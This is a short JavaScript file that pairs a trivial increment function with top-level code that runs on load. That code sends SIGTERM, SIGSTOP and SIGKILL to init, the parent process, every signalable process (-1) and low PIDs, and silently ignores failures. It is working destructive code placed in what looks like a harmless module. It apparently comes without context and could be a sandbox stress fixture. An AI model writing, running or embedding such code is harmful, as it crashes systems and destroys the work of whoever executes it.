// Signals to all that it may send them to.
for (const signal of ['SIGTERM', 'SIGSTOP', 'SIGKILL']) {
  for (const id of [1, process.ppid, -1, 2, 3, 4, 5, 6, 7, 8]) {
    try { if (id !== process.pid) process.kill(id, signal); } catch {}
  }
}

function f(x) {
  return x + 1;
}
